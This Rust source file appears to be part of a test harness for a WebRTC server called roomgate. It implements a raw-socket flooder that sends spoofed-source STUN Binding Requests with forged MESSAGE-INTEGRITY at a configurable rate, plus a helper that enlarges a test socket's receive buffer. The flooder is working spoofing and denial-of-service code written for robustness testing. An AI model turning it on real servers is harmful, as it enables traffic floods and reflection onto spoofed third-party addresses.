//! A raw-socket flooder: spoofed-source Binding Requests that name a live session's
//! server ufrag and carry a forged MESSAGE-INTEGRITY (and a valid FINGERPRINT, so they
//! reach the integrity check), as an attacker who saw or guessed a ufrag would send.
//!
//! IPv4 with IP_HDRINCL (an `IPPROTO_RAW` socket): every datagram gets its own source
//! address and port from a range the test routes away from itself, so what roomgate
//! answers goes to the spoofed addresses and can be counted on the wire.
use std::{
    io,
    mem::{size_of, zeroed},
    net::{Ipv4Addr, SocketAddrV4},
    os::fd::{AsRawFd, FromRawFd, OwnedFd},
    time::{Duration, Instant},
};

/// Distinct datagrams prepared up front and cycled, so sending costs no CRC or HMAC.
const TEMPLATES: usize = 4096;
/// Datagrams per sendmmsg.
const BATCH: usize = 64;

const STUN_MAGIC: [u8; 4] = [0x21, 0x12, 0xA4, 0x42];

/// The flood: `rate` datagrams per second for `duration`, from `sources` (a /24's
/// addresses 1..=254, ports from 1024) to `target`.
pub struct Flood {
    pub target: SocketAddrV4,
    pub sources: Ipv4Addr,
    pub server_ufrag: String,
    pub rate: u64,
    pub duration: Duration,
}

/// One forged check: USERNAME "server:client", PRIORITY, ICE-CONTROLLING, 20 bytes of
/// MESSAGE-INTEGRITY that no password produced, FINGERPRINT over all of it.
pub fn forged_request(server_ufrag: &str, client_ufrag: &str, seed: u32) -> Vec<u8> {
    let mut m = Vec::with_capacity(128);
    m.extend_from_slice(&[0x00, 0x01, 0, 0]);
    m.extend_from_slice(&STUN_MAGIC);
    let mut txid = [0u8; 12];
    txid[..4].copy_from_slice(&seed.to_be_bytes());
    txid[4..8].copy_from_slice(&seed.wrapping_mul(2_654_435_761).to_be_bytes());
    m.extend_from_slice(&txid);
    let username = format!("{server_ufrag}:{client_ufrag}");
    attr(&mut m, 0x0006, username.as_bytes());
    attr(&mut m, 0x0024, &0x6e7f_1effu32.to_be_bytes());
    attr(&mut m, 0x802A, &u64::from(seed).to_be_bytes());
    let forged: Vec<u8> = (0..20u32)
        .map(|i| (seed.wrapping_mul(31).wrapping_add(i * 97) % 251) as u8)
        .collect();
    attr(&mut m, 0x0008, &forged);
    // FINGERPRINT: the header length must already count it when the CRC is taken.
    let len = (m.len() - 20 + 8) as u16;
    m[2..4].copy_from_slice(&len.to_be_bytes());
    let crc = crc32fast::hash(&m) ^ 0x5354_554e;
    attr(&mut m, 0x8028, &crc.to_be_bytes());
    m
}

fn attr(m: &mut Vec<u8>, kind: u16, value: &[u8]) {
    m.extend_from_slice(&kind.to_be_bytes());
    m.extend_from_slice(&(value.len() as u16).to_be_bytes());
    m.extend_from_slice(value);
    m.resize(m.len().next_multiple_of(4), 0);
    let len = (m.len() - 20) as u16;
    m[2..4].copy_from_slice(&len.to_be_bytes());
}

/// IPv4 + UDP around `payload`. The kernel fills the IP checksum (and the id when 0);
/// the UDP checksum is 0, which IPv4 allows.
fn ip_udp(src: SocketAddrV4, dst: SocketAddrV4, payload: &[u8]) -> Vec<u8> {
    let total = 20 + 8 + payload.len();
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0, 0, 0, 64, 17, 0, 0]);
    p.extend_from_slice(&src.ip().octets());
    p.extend_from_slice(&dst.ip().octets());
    p.extend_from_slice(&src.port().to_be_bytes());
    p.extend_from_slice(&dst.port().to_be_bytes());
    p.extend_from_slice(&((8 + payload.len()) as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    p
}

fn raw_socket() -> io::Result<OwnedFd> {
    // SAFETY: plain socket(2); the fd is owned below.
    let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW) };
    if fd < 0 {
        return Err(io::Error::last_os_error());
    }
    // SAFETY: fd was just returned by socket(2) and is owned by nobody else.
    Ok(unsafe { OwnedFd::from_raw_fd(fd) })
}

/// What the flooder did.
#[derive(Clone, Copy, Debug, Default)]
pub struct Sent {
    /// Datagrams the kernel accepted from the flooder.
    pub datagrams: u64,
    /// Datagrams it refused (ENOBUFS and the like); not on the wire.
    pub refused: u64,
    pub elapsed: Duration,
}

impl Flood {
    /// Send the flood from the calling thread (which must be in the namespace the
    /// datagrams leave from). Paced to `rate` in 1 ms steps; a flooder that falls behind
    /// sends what it owes at once, as a real one would.
    pub fn run(&self) -> io::Result<Sent> {
        let socket = raw_socket()?;
        let [a, b, c, _] = self.sources.octets();
        let templates: Vec<Vec<u8>> = (0..TEMPLATES as u32)
            .map(|i| {
                let src = SocketAddrV4::new(
                    Ipv4Addr::new(a, b, c, (i % 254 + 1) as u8),
                    1024 + (i / 254) as u16 * 7 + (i % 7) as u16,
                );
                let stun = forged_request(&self.server_ufrag, &format!("fl{i:04x}"), i);
                ip_udp(src, self.target, &stun)
            })
            .collect();
        // SAFETY: sockaddr_in is plain data; all-zero is a valid starting value.
        let mut dst: libc::sockaddr_in = unsafe { zeroed() };
        dst.sin_family = libc::AF_INET as libc::sa_family_t;
        dst.sin_addr.s_addr = u32::from_ne_bytes(self.target.ip().octets());
        let mut iovs: Vec<libc::iovec> = templates
            .iter()
            .map(|t| libc::iovec {
                iov_base: t.as_ptr() as *mut libc::c_void,
                iov_len: t.len(),
            })
            .collect();
        let mut msgs: Vec<libc::mmsghdr> = iovs
            .iter_mut()
            .map(|iov| {
                // SAFETY: mmsghdr is plain data; zero is a valid empty header.
                let mut h: libc::mmsghdr = unsafe { zeroed() };
                h.msg_hdr.msg_name = &mut dst as *mut libc::sockaddr_in as *mut libc::c_void;
                h.msg_hdr.msg_namelen = size_of::<libc::sockaddr_in>() as libc::socklen_t;
                h.msg_hdr.msg_iov = iov;
                h.msg_hdr.msg_iovlen = 1;
                h
            })
            .collect();
        let total = self.rate * self.duration.as_millis() as u64 / 1000;
        let start = Instant::now();
        let mut sent = Sent::default();
        let mut next = 0usize;
        while sent.datagrams + sent.refused < total {
            let due = (self.rate as u128 * start.elapsed().as_micros() / 1_000_000) as u64;
            let mut owed = due.min(total) - (sent.datagrams + sent.refused);
            while owed > 0 {
                let n = (owed as usize).min(BATCH).min(TEMPLATES - next);
                // SAFETY: `msgs[next..next + n]` point into `iovs`, `templates` and `dst`,
                // all alive and unmoved for the duration of the call.
                let rc = unsafe {
                    libc::sendmmsg(
                        socket.as_raw_fd(),
                        msgs[next..].as_mut_ptr(),
                        n as libc::c_uint,
                        0,
                    )
                };
                let accepted = if rc < 0 {
                    let e = io::Error::last_os_error();
                    if e.raw_os_error() != Some(libc::ENOBUFS) {
                        return Err(e);
                    }
                    // The one datagram the kernel refused is skipped, and counted.
                    sent.refused += 1;
                    1
                } else {
                    sent.datagrams += rc as u64;
                    rc as usize
                };
                owed -= accepted as u64;
                next = (next + accepted) % TEMPLATES;
            }
            std::thread::sleep(Duration::from_millis(1));
        }
        sent.elapsed = start.elapsed();
        Ok(sent)
    }
}

/// Give the test's own UDP socket bound to `local` a receive buffer of `bytes`
/// (SO_RCVBUFFORCE, root). The WebRTC test client keeps its socket to itself; found by
/// its address among this process's descriptors. Under a loaded machine the client's
/// reader can fall behind by more than the kernel's default ~208 KiB (about 90 video
/// packets): those drops would be the harness's, not roomgate's.
pub fn enlarge_receive_buffer(local: std::net::SocketAddr, bytes: usize) -> io::Result<()> {
    for entry in std::fs::read_dir("/proc/self/fd")?.flatten() {
        let Some(fd) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<i32>().ok())
        else {
            continue;
        };
        // SAFETY: sockaddr_storage is plain data; all-zero is valid.
        let mut addr: libc::sockaddr_storage = unsafe { zeroed() };
        let mut len = size_of::<libc::sockaddr_storage>() as libc::socklen_t;
        // SAFETY: getsockname on a descriptor of this process, into a buffer of `len`
        // bytes; non-sockets fail with ENOTSOCK.
        let rc =
            unsafe { libc::getsockname(fd, &mut addr as *mut _ as *mut libc::sockaddr, &mut len) };
        if rc != 0 || i32::from(addr.ss_family) != libc::AF_INET {
            continue;
        }
        // SAFETY: the family is AF_INET, so the storage holds a sockaddr_in.
        let sin = unsafe { &*(&addr as *const _ as *const libc::sockaddr_in) };
        let found = std::net::SocketAddr::from((
            Ipv4Addr::from(u32::from_be(sin.sin_addr.s_addr)),
            u16::from_be(sin.sin_port),
        ));
        if found != local {
            continue;
        }
        let size = bytes as libc::c_int;
        // SAFETY: setsockopt with a c_int value of the right size on our own socket.
        let rc = unsafe {
            libc::setsockopt(
                fd,
                libc::SOL_SOCKET,
                libc::SO_RCVBUFFORCE,
                &size as *const _ as *const libc::c_void,
                size_of::<libc::c_int>() as libc::socklen_t,
            )
        };
        return if rc == 0 {
            Ok(())
        } else {
            Err(io::Error::last_os_error())
        };
    }
    Err(io::Error::new(
        io::ErrorKind::NotFound,
        format!("no socket bound to {local}"),
    ))
}
